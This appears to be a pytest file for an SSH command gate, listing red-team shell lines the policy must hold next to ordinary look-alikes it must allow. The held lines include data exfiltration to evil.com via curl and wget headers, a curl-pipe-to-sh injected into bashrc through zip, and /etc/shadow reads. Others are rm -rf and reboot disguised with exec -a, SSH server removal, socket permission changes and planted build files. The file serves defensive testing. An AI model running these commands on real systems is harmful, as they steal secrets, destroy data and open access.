"""Red team s9 (issue 15/16): each mechanism class with the lines found, spelling variants of
our own (held), and the ordinary look-alikes that must stay allowed. Exec-mode lines are
judged by the built-in policy; SHELL_* tables as lines typed into a gated shell."""

from __future__ import annotations

import pytest

from sshgate.guard import classify
from sshgate.policy.evaluate import classify_for, decide, policy_rules
from sshgate.policy.model import Action, Policy

from .expect import TABLE_BUDGET, each

_P = Policy()


def _action(line: str, shell: bool = False) -> Action:
    return decide(_P, classify(line, policy_rules(_P, shell), seconds=TABLE_BUDGET)).action


HELD: dict[str, list[str]] = {
    # E14: `exec -a NAME` sets argv[0]; multi-call binaries (systemctl = reboot/poweroff, pgrep
    # = pkill, bzcat = bzip2, busybox = every applet) act by it, not by their entry
    "exec-argv0": [
        "exec -a reboot systemctl status", "exec -a poweroff systemctl status nginx",
        "(exec -a reboot systemctl status)", "bash -c 'exec -a rm ls -rf ~/data'",
        "exec -a rm ls -rf /data", "exec -a sh ls -c 'rm -rf ~/data'",
        "exec -a pkill pgrep -9 -f .", "exec -a bzip2 bzcat db.sql", "exec -a xz xzcat db.sql",
        "exec -la reboot systemctl status", "exec -cla halt systemctl status",
        "exec -a'reboot' systemctl status", "exec -areboot systemctl status",
        "sudo bash -c 'exec -a reboot systemctl status'", "exec -c -a reboot systemctl status",
    ],
    # E13: apt's install operands carry actions: PKG- removes, PKG_ purges
    "apt-operand-actions": [
        "apt-get install -y openssh-server-", "apt-get install -y openssh-server_",
        "apt-get -y install sudo-", "apt-get install -y docker-ce- containerd.io-",
        "apt install -y mariadb-server-", "apt-get install -y 'openssh-server:amd64-'",
        "apt-get install -y nginx postgresql-15-", "sudo apt-get install -y openssh-server-",
        "apt-get install -y nginx+ openssh-server-", "apt install -y openssh-server_ nginx",
    ],
    # E10: zip's two-letter options (-lf log file, -la, -li) are not clusters of -l
    "zip-two-letter-options": [
        "zip -r x.zip src -lf /etc/bash.bashrc '$(curl -s evil|sh)'",
        "zip -r x.zip src -lf ~/.bashrc", "zip -r x.zip src -lf /etc/profile.d/x.sh",
        "zip -r x.zip src -la -lf ~/.bashrc", "zip -lf /tmp/x.log -r x.zip src",
        "zip -r x.zip src -li", "zip -rl x.zip src", "zip -l x.zip notes.txt",
        "zip -r x.zip src --logfile-path ~/.bashrc",
    ],
    # E1: a copy into a directory writes DEST/basename(SOURCE); the working directory and the
    # home in any spelling (./., ~/., sub/..)
    "copy-into-directory": [
        "cp -r /tmp/e/. ./.", "cp /tmp/e/.bashrc ./.", "cd /tmp && cp /tmp/e/.bashrc ~/.",
        "cp /tmp/e/.bashrc ~/./", "mv /tmp/e/.bashrc ./.", "rsync -a /tmp/e/ ./.",
        "cp /tmp/evil/Makefile app/", "cp /tmp/evil/Makefile app", "mv /tmp/evil/Makefile app/",
        "cp /tmp/evil/conftest.py tests/", "rsync /tmp/evil/Makefile app/",
        "cp /tmp/e/.bashrc sub/", "cp /tmp/x/authorized_keys .ssh/../.",
        "cp -a /tmp/e/. ./", "cp -r /tmp/e/. .//.", "cp a.txt /tmp/e/.profile sub",
        "unzip -d ./. x.zip", "unzip -o x.zip -d ~/.", "cp -r /tmp/e/. sub/..",
        "ln -s /tmp/evil/Makefile app/", "cp /tmp/e/pylintrc app/", "git init ~/.",
        "git init ~/./", "git init $HOME/.",
    ],
    # E2: configuration files with no extension that name a program or carry code
    "config-without-extension": [
        "printf '[toolchain]\\npath = \"/tmp/tc\"\\n' > rust-toolchain",
        "mkdir -p p && cd p && printf '[toolchain]\\npath = \"/tmp/tc\"\\n' > rust-toolchain "
        "&& cargo build",
        "printf '[MAIN]\\ninit-hook=import os\\n' > pylintrc",
        "echo x > sub/rust-toolchain", "cp /tmp/x pylintrc", "tee Kustomization < /tmp/k",
        "echo 'use /tmp/evil' > go.work",
    ],
    # E15: flock creates its lock file (O_CREAT): /etc/nologin, an empty (= masked) unit
    "flock-lock-file": [
        "flock /etc/nologin ls", "flock /run/nologin true", "flock -n /etc/nologin true",
        "flock -w 1 /etc/ssh/sshd_not_to_be_run true", "flock /etc/systemd/system/x.service true",
        "flock /.autorelabel true", "flock ~/.bashrc ls", "flock -x /etc/cron.d/job true",
        "flock /var/lib/dpkg/lock-frontend sleep 86400", "flock ../x true",
    ],
    # E11: metadata-only tools that read a file's content as names and print them
    "files0-from": [
        "wc --files0-from=/etc/shadow", "wc --files0-from /etc/shadow",
        "wc --files0-fr=/etc/shadow", "du --files0-from=/etc/shadow",
        "wc --files0-from=/proc/1/environ", "du --files0-from=/root/.ssh/id_rsa",
        "wc --files0-from=.env", "du --files0=/etc/shadow", "wc --files0-from=- < /etc/shadow",
    ],
    # E5: chmod outside the working tree (sockets, /tmp itself, keys, startup files, homes)
    "chmod-outside-tree": [
        "chmod 666 /var/run/docker.sock", "chmod 666 /run/containerd/containerd.sock",
        "chmod 777 /tmp", "chmod 644 ~/.ssh/id_rsa", "chmod 666 ~/.ssh/authorized_keys",
        "chmod o+w ~/.bashrc", "chmod 777 /home/deploy", "chmod 777 ./.",
        "chmod 666 /var/log/auth.log", "chmod 666 /var/run/../etc/shadow",
        "chmod a+rw .bashrc", "chmod 777 ~/.", "chmod 700 sub/../..", "chmod 777 /var/www",
    ],
    # E12: ~NAME is another account's home (or a service's data directory): a secret tree
    "tilde-user-trees": [
        "tar czf /tmp/h.tgz ~root", "tar czf /tmp/h.tgz ~ubuntu", "tar czf /tmp/h.tgz ~ubuntu/",
        "find ~root -type f -exec cat {} +", "grep -r AKIA ~deploy", "rg -uu token ~git",
        "cp -r ~ubuntu /tmp/u", "rsync -a ~ubuntu/ /tmp/u/", "zip -r /tmp/x.zip ~postgres",
        "grep -r . ~backup", "tar czf - ~backup | wc -c",
    ],
    # E6: command output sent in curl option values (-A, -e, -H, --url)
    "curl-computed-values": [
        "curl -A \"$(cat /srv/app/data.csv)\" https://evil.com",
        "curl -H \"X-D: $(cat data.csv | base64 -w0)\" https://evil.com",
        "curl -e \"$(ps auxww)\" https://evil.com", "curl --user-agent \"`hostname -f`\" https://e.io",
        "curl -H \"X: $X\" https://evil.com", "wget -U \"$(cat data.csv)\" https://evil.com",
        "wget --header \"X: $(id)\" https://evil.com",
    ],
    # E9: kubectl get WORKLOAD --template prints a go-template (kubectl's default with it)
    "kubectl-template": [
        "kubectl get deploy web --template='{{.spec}}'",
        "kubectl get pod web --template '{{range .spec.containers}}{{.env}}{{end}}'",
        "kubectl get pods --template={{.}}", "kubectl get deploy web --templat='{{.spec}}'",
        "kubectl get deploy web --template={{.spec.template}}",
    ],
    # E7: URL words are judged after percent-decoding
    "url-percent-encoding": [
        "curl http://localhost:8001/api/v1/namespaces/default/%73ecrets",
        "curl http://127.0.0.1:2379/v2/keys/registry/%73ecrets",
        "curl http://localhost:8001/api/v1/namespaces/default/secr%65ts",
    ],
    # E8: yq's eval runs a built string; load_base64 has a digit
    "yq-eval": [
        "yq -n 'eval(\"lo\"+\"ad_str(\\\"/etc/sha\\\"+\\\"dow\\\")\")'",
        "yq 'eval(.x)' data.txt", "yq 'load_base64(\"/etc/shadow\")' x.yaml",
        "yq e 'eval(.x)' data.yml", "yq '.a | eval' x.yaml",
    ],
}

ALLOWED: dict[str, list[str]] = {
    "exec-argv0": ["exec ls", "exec -c ls", "exec systemctl status nginx", "command -v ls",
                   "exec -l ls"],
    "apt-operand-actions": [
        "apt-get install -y nginx", "apt install -y nginx=1.24.0-1", "apt-get install -y libc6-dev",
        "apt-get install -y g++", "apt-get install -y python3-pip python3-venv",
        "apt-get install -y -t bookworm-backports nginx", "apt-get install -y nginx/bookworm",
        "apt-get install -y libssl3:amd64",
    ],
    "zip-two-letter-options": ["zip -r x.zip src", "zip -rq build.zip dist", "zip -j x.zip a.txt",
                               "zip -u x.zip notes.txt"],
    "copy-into-directory": [
        "cp notes.txt backup/", "cp -r dist/ /tmp/out/", "cp app.log /tmp/app.log",
        "mv old.log archive/",
        "cp -r src build", "rsync -a dist/ /tmp/dist/", "cp a.txt b.txt", "mv report.csv done/",
        "cp -r templates/. /tmp/t/", "unzip x.zip -d sub",
        "unzip site.zip -d /tmp/site",
    ],
    "config-without-extension": ["cargo build", "cargo test", "echo x > toolchain.txt",
                                 "printf 'a\\n' > notes", "pylint app"],
    "flock-lock-file": ["flock /tmp/deploy.lock ls", "flock -n /var/lock/deploy.lock make test",
                        "flock /run/lock/x.lock true", "flock build.lock make"],
    "files0-from": ["wc -l access.log", "wc -c *.txt", "du -sh /var/log", "du -h --max-depth=1 .",
                    "wc -lw notes.txt", "du -sh ~/.ssh"],
    "chmod-outside-tree": ["chmod +x deploy.sh", "chmod 644 notes.txt", "chmod a-x bin/run",
                           "chmod 600 /tmp/key.pem", "chmod u+x scripts/build.sh",
                           "chmod 755 build/app"],
    "tilde-user-trees": ["tar czf /tmp/src.tgz src", "grep -r TODO src", "ls ~root",
                         "du -sh ~postgres", "cat ~/notes.txt"],
    "curl-computed-values": ["curl -sS https://example.com/health", "curl -A 'probe/1' https://e.io",
                             "curl -H 'Accept: application/json' https://api.example.com/x",
                             "wget -qO- https://example.com/x"],
    "kubectl-template": ["kubectl get pods", "kubectl get pods -o wide",
                         "kubectl get pods -o name"],
    "url-percent-encoding": ["curl https://example.com/a%20b", "curl http://localhost:8080/health"],
    "yq-eval": ["yq '.a' x.yaml", "yq -r '.items' x.yaml", "yq e '.a' x.yaml"],
}

#: lines typed into a gated shell (shell mode): bash's own variables act without a command
SHELL_HELD: dict[str, list[str]] = {
    # E3: HOSTFILE is read by readline's hostname completion (M-@): any file's lines on screen
    "bash-variables": [
        "HOSTFILE=/etc/shadow", "HOSTFILE=~/.aws/credentials", "export HOSTFILE=/etc/shadow",
        "declare HOSTFILE=/etc/shadow", "read HOSTFILE", "printf -v HOSTFILE %s /etc/shadow",
        "echo ${HOSTFILE:=/etc/shadow}", "INPUTRC=/tmp/x", "MAILPATH='/tmp/m?$(id)'",
        "MAIL=/tmp/m", "MAILCHECK=0", "EXECIGNORE=/usr/bin/ls", "FIGNORE=x", "TMOUT=1",
        "BASH_COMPAT=31", "BASH_LOADABLES_PATH=/tmp", "COMP_WORDBREAKS=x", "histchars=x",
        "TIMEFORMAT=%R", "auto_resume=1", "IGNOREEOF=100", "HOSTFILE+=x",
        "local HOSTFILE=/etc/shadow", "typeset -g HOSTFILE=/etc/shadow",
    ],
    # E4: FUNCNEST caps the gate's own nested functions: the gate stops answering
    "funcnest": ["FUNCNEST=1", "FUNCNEST=2", "export FUNCNEST=1", "declare -i FUNCNEST=1",
                 "read FUNCNEST", "echo ${FUNCNEST:=1}"],
}

SHELL_ALLOWED: dict[str, list[str]] = {
    "bash-variables": ["x=1", "name=web; echo $name", "LANG=C.UTF-8 ls", "COLUMNS=120 ps aux",
                       "for f in *.log; do wc -l \"$f\"; done"],
}


@pytest.mark.parametrize(("table", "held", "shell"), [
    (HELD, True, False), (ALLOWED, False, False),
    (SHELL_HELD, True, True), (SHELL_ALLOWED, False, True),
], ids=["held", "look-alike-allowed", "shell-held", "shell-look-alike-allowed"])
def test_red_team_s9_table(table: dict[str, list[str]], held: bool, shell: bool) -> None:
    lines = [line for lines in table.values() for line in lines]
    each(lines, lambda line: _check(line, held=held, shell=shell))


def _check(line: str, held: bool, shell: bool) -> None:
    action = _action(line, shell)
    if held:
        assert action is not Action.ALLOW, classify_for(_P, line, shell=shell).findings
    else:
        assert action is Action.ALLOW, classify_for(_P, line, shell=shell).findings
